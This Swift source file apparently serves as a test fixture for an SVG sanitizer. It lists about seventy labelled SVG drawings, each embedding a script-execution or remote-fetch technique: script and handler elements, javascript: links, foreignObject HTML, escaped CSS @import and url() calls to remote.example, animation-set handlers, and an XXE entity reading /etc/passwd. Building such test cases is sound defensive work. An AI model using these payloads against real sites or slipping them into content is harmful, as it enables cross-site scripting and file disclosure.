/// Drawings in SVG that try to run code or to reach out, one of each kind; each is well-formed.
package enum HostileDrawings {
  private static let start =
    #"<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="30" height="20">"#

  /// The drawings, each with a word for its attack.
  package static let all: [(kind: String, drawing: String)] = inside.map { ($0.0, start + $0.1 + "</svg>") } + whole

  /// Within an ordinary drawing.
  private static let inside: [(String, String)] = [
    ("script", "<script>alert(1)</script>"),
    ("script with a type", "<script type=\"text/ecmascript\"><![CDATA[alert(1)]]></script>"),
    ("script from elsewhere", "<script xlink:href=\"http://remote.example/a.js\"/>"),
    ("script in a data address", "<script href=\"data:text/javascript,alert(1)\"/>"),
    ("script under another prefix", "<x:script xmlns:x=\"http://www.w3.org/2000/svg\">alert(1)</x:script>"),
    ("script of pages", "<script xmlns=\"http://www.w3.org/1999/xhtml\">alert(1)</script>"),
    ("script in a part", "<defs><g id=\"a\"><script>alert(1)</script></g></defs><use href=\"#a\"/>"),
    ("handler", "<rect width=\"9\" height=\"9\" onclick=\"alert(1)\" onmouseover=\"alert(1)\" onfocus=\"alert(1)\"/>"),
    ("handler of loading", "<g onload=\"alert(1)\"/>"),
    ("handler of a broken picture", "<image href=\"data:image/png;base64,x\" onerror=\"alert(1)\"/>"),
    ("handler of animation", "<animate attributeName=\"x\" dur=\"1ms\" onbegin=\"alert(1)\" onend=\"alert(1)\"/>"),
    ("handler set by animation", "<rect><set attributeName=\"onclick\" to=\"alert(1)\"/></rect>"),
    (
      "element for handlers",
      "<handler type=\"text/javascript\" ev:event=\"load\" xmlns:ev=\"http://www.w3.org/2001/xml-events\">alert(1)</handler>"
    ),
    (
      "page inside",
      "<foreignObject width=\"9\" height=\"9\"><body xmlns=\"http://www.w3.org/1999/xhtml\"><img src=\"x\" onerror=\"alert(1)\"/></body></foreignObject>"
    ),
    (
      "frame inside",
      "<foreignObject><iframe xmlns=\"http://www.w3.org/1999/xhtml\" src=\"javascript:alert(1)\"/></foreignObject>"
    ),
    (
      "page in a switch",
      "<switch><foreignObject requiredExtensions=\"http://www.w3.org/1999/xhtml\"><p xmlns=\"http://www.w3.org/1999/xhtml\" onclick=\"alert(1)\">x</p></foreignObject><g/></switch>"
    ),
    ("page in a title", "<title><img xmlns=\"http://www.w3.org/1999/xhtml\" src=\"x\" onerror=\"alert(1)\"/></title>"),
    (
      "page in a description",
      "<desc><b:img xmlns:b=\"http://www.w3.org/1999/xhtml\" src=\"x\" onerror=\"alert(1)\"/></desc>"
    ),
    (
      "element of pages",
      "<img xmlns=\"http://www.w3.org/1999/xhtml\" src=\"http://remote.example/i.png\" onerror=\"alert(1)\"/>"
    ),
    ("link that runs", "<a href=\"javascript:alert(1)\"><rect width=\"9\" height=\"9\"/></a>"),
    ("link that runs, by the old name", "<a xlink:href=\"&#x6A;ava&#9;script:alert(1)\"><text y=\"9\">x</text></a>"),
    ("link to markup", "<a xlink:href=\"data:text/html,&lt;script>alert(1)&lt;/script>\"><text y=\"9\">x</text></a>"),
    (
      "link made to run by animation",
      "<a><animate attributeName=\"href\" values=\"javascript:alert(1)\"/><text y=\"9\">x</text></a>"
    ),
    (
      "link made to run by an animation elsewhere",
      "<a id=\"l\"><text y=\"9\">x</text></a><animate xlink:href=\"#l\" attributeName=\"xlink:href\" to=\"javascript:alert(1)\"/>"
    ),
    (
      "link made to run by setting",
      "<a><set attributeName=\"xlink:href\" to=\"javascript:alert(1)\"/><text y=\"9\">x</text></a>"
    ),
    (
      "animation of a link without a type",
      "<a><animate attributeType=\"XML\" attributeName=\"href\" from=\"#\" to=\"javascript:alert(1)\" begin=\"0s\"/><text y=\"9\">x</text></a>"
    ),
    ("remote picture", "<image href=\"http://remote.example/a.png\" width=\"9\" height=\"9\"/>"),
    ("remote picture without a scheme", "<image xlink:href=\"//remote.example/b.png\" width=\"9\" height=\"9\"/>"),
    (
      "picture that is a page",
      "<image href=\"data:text/html,&lt;script>alert(1)&lt;/script>\" width=\"9\" height=\"9\"/>"
    ),
    (
      "picture that is a drawing",
      "<image href=\"data:image/svg+xml,&lt;svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>\" width=\"9\" height=\"9\"/>"
    ),
    ("remote part", "<use href=\"http://remote.example/c.svg#x\"/>"),
    (
      "part in a data address",
      "<use xlink:href=\"data:image/svg+xml;base64,PHN2ZyB4bWxucz0iaHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmciPjxzY3JpcHQ+YWxlcnQoMSk8L3NjcmlwdD48L3N2Zz4=#x\"/>"
    ),
    (
      "remote filter",
      "<filter id=\"f\"><feImage href=\"http://remote.example/d.png\"/></filter><rect width=\"9\" height=\"9\" filter=\"url(#f)\"/>"
    ),
    ("remote paint", "<rect width=\"9\" height=\"9\" fill=\"url(http://remote.example/e.svg#p)\"/>"),
    ("remote paint, quoted", "<rect width=\"9\" height=\"9\" fill=\"url( 'http://remote.example/f.svg#p' )\"/>"),
    ("remote paint, escaped", "<rect width=\"9\" height=\"9\" fill=\"u\\72l(http://remote.example/g.svg#p)\"/>"),
    ("remote mask by style", "<rect width=\"9\" height=\"9\" style=\"mask:url(http://remote.example/h.svg#m)\"/>"),
    (
      "remote background",
      "<rect width=\"9\" height=\"9\" style=\"background:url(http://remote.example/i.png);fill:red\"/>"
    ),
    ("remote image set", "<rect width=\"9\" height=\"9\" style=\"mask:image-set('http://remote.example/j.png' 1x)\"/>"),
    ("remote cursor", "<rect width=\"9\" height=\"9\" cursor=\"url(http://remote.example/k.cur),auto\"/>"),
    ("remote sheet", "<style>@import url(http://remote.example/l.css);</style>"),
    ("remote sheet by string", "<style>@import 'http://remote.example/m.css'; rect{fill:red}</style>"),
    ("remote sheet, escaped", "<style>@\\69mport 'http://remote.example/n.css';</style>"),
    (
      "remote font",
      "<style>@font-face{font-family:f;src:url(http://remote.example/o.woff)} text{font-family:f}</style><text y=\"9\">x</text>"
    ),
    (
      "remote paint by a sheet",
      "<style>rect{fill:url(\"http://remote.example/p.svg#p\")}</style><rect width=\"9\" height=\"9\"/>"
    ),
    (
      "remote paint behind a comment",
      "<style>rect{fill:/*;*/url(http://remote.example/q.svg#p)}</style><rect width=\"9\" height=\"9\"/>"
    ),
    (
      "remote picture by a variable",
      "<style>rect{--a:url(http://remote.example/r.png);mask:var(--a)}</style><rect width=\"9\" height=\"9\"/>"
    ),
    (
      "behaviour by style",
      "<rect style=\"-moz-binding:url(http://remote.example/s.xml#b);behavior:url(#default#time2)\"/>"
    ),
    ("old expression", "<rect style=\"width:expression(alert(1))\"/>"),
    ("sheet that ends itself", "<style><![CDATA[</style><script>alert(1)</script>]]></style>"),
    ("text that ends itself", "<text y=\"9\">&lt;/text>&lt;script>alert(1)&lt;/script></text>"),
    ("comment that hides", "<!-- --><script>alert(1)</script><!-- -->"),
    (
      "text that is a comment",
      "<text y=\"9\"><![CDATA[<!--]]></text><g id=\"--&gt;&lt;img src=x onerror=alert(1)&gt;\"/>"
    ),
    ("instruction", "<?xml-stylesheet href=\"http://remote.example/t.css\"?><rect width=\"9\" height=\"9\"/>"),
    ("base for addresses", "<g xml:base=\"http://remote.example/\"><use href=\"u.svg#x\"/></g>"),
    (
      "sound",
      "<audio xmlns=\"http://www.w3.org/1999/xhtml\" src=\"http://remote.example/v.mp3\" autoplay=\"\" onerror=\"alert(1)\"/>"
    ),
    ("object", "<object xmlns=\"http://www.w3.org/1999/xhtml\" data=\"http://remote.example/w.swf\"/>"),
    (
      "link element",
      "<link xmlns=\"http://www.w3.org/1999/xhtml\" rel=\"stylesheet\" href=\"http://remote.example/x.css\"/>"
    ),
    ("refresh", "<meta xmlns=\"http://www.w3.org/1999/xhtml\" http-equiv=\"refresh\" content=\"0;url=/elsewhere\"/>"),
    (
      "form",
      "<form xmlns=\"http://www.w3.org/1999/xhtml\" action=\"http://remote.example/y\"><input autofocus=\"\" onfocus=\"alert(1)\"/></form>"
    ),
    (
      "mathematics",
      "<math xmlns=\"http://www.w3.org/1998/Math/MathML\" href=\"javascript:alert(1)\"><mtext onclick=\"alert(1)\">x</mtext></math>"
    ),
    ("font of the drawing", "<font-face-uri xlink:href=\"http://remote.example/z.svg#f\"/>"),
    ("view", "<view viewTarget=\"javascript:alert(1)\"/>"),
  ]

  /// Beside or around the drawing.
  private static let whole: [(String, String)] = [
    (
      "handler of the drawing",
      "<svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"alert(1)\" onerror=\"alert(1)\" width=\"9\" height=\"9\"/>"
    ),
    (
      "sheet beside the drawing",
      "<?xml version=\"1.0\"?><?xml-stylesheet type=\"text/css\" href=\"http://remote.example/a.css\"?>" + start
        + "</svg>"
    ),
    ("transformation", "<?xml-stylesheet type=\"text/xsl\" href=\"data:text/xml,x\"?>" + start + "</svg>"),
    ("entity of another file", "<!DOCTYPE svg [<!ENTITY x SYSTEM \"file:///etc/passwd\">]>" + start + "<g/></svg>"),
    ("type of another file", "<!DOCTYPE svg SYSTEM \"http://remote.example/b.dtd\">" + start + "<g/></svg>"),
    ("attribute by declaration", "<!DOCTYPE svg [<!ATTLIST svg onload CDATA \"alert(1)\">]>" + start + "<g/></svg>"),
    ("handler by an entity", "<!DOCTYPE svg [<!ENTITY h \"alert(1)\">]>" + start + "<g onload=\"&h;\"/></svg>"),
    (
      "prefix for the drawing",
      "<s:svg xmlns:s=\"http://www.w3.org/2000/svg\" onload=\"alert(1)\"><s:script>alert(1)</s:script></s:svg>"
    ),
    ("instruction behind the drawing", start + "</svg><?x <script>alert(1)</script> ?>"),
  ]
}
